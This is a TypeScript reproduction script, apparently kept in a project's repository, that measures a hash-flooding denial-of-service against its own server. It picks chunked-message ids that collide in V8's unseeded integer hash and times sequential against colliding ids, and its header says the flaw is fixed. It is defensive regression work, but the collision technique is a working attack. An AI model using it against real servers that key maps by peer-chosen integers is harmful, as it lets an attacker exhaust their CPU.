/**
 * Reproduction (fixed: the table is keyed by a secret permutation of the
 * id; docs/SECURITY.md): chunked one-way messages whose ids collide in V8's
 * integer hash. V8 hashes small-integer
 * Map keys without a seed, so a peer can choose ids that all land in one
 * bucket of the receiver's table of unfinished messages; every continuation
 * frame then walks that chain. The server caps unfinished messages per
 * connection (1,024 here), which caps the chain.
 *
 *   node scripts/attack/hash-flood.ts [--msgs 1024] [--rounds 256]
 *
 * Prints the server's wall and CPU time (one process: the raw peer's cost is
 * the same in both modes) for ids 1, 3, 5, ... and for colliding ids.
 */
import { parseArgs } from "node:util";
import { chunkFrame, countedSession, startFrame } from "../../test/helpers/chunked-frames.ts";
import { v8Hash } from "../../test/helpers/v8-hash.ts";
import { until } from "../../test/helpers/wait.ts";

const { values } = parseArgs({ options: { msgs: { type: "string" }, rounds: { type: "string" } } });
const K = Number(values.msgs ?? 1024);
const R = Number(values.rounds ?? 256);

for (const mode of ["sequential", "colliding", "sequential", "colliding"]) {
  const ids: number[] = [];
  for (let k = 1; ids.length < K; k += 2) if (mode === "sequential" || (v8Hash(k) & 0xffff) === 0x1234) ids.push(k);
  const cleanup: (() => unknown)[] = [];
  const { peer, got } = await countedSession(cleanup);
  const one = new Uint8Array(1);
  const parts: Uint8Array[] = ids.map((id) => startFrame(id, R + 2, one));
  for (let r = 0; r < R; r++) for (const id of ids) parts.push(chunkFrame(id, one, false));
  for (const id of ids) parts.push(chunkFrame(id, one, true));
  const bytes = Buffer.concat(parts);
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  peer.socket.write(bytes);
  await until(() => got.length === K, 120_000);
  const ms = performance.now() - t0;
  const cpu = process.cpuUsage(c0);
  console.log(
    `${mode}: ${K} messages x ${R + 2} frames: ${ms.toFixed(0)} ms wall, ${((cpu.user + cpu.system) / 1000).toFixed(0)} ms CPU`,
  );
  for (const f of cleanup) await f();
}
process.exit(0);
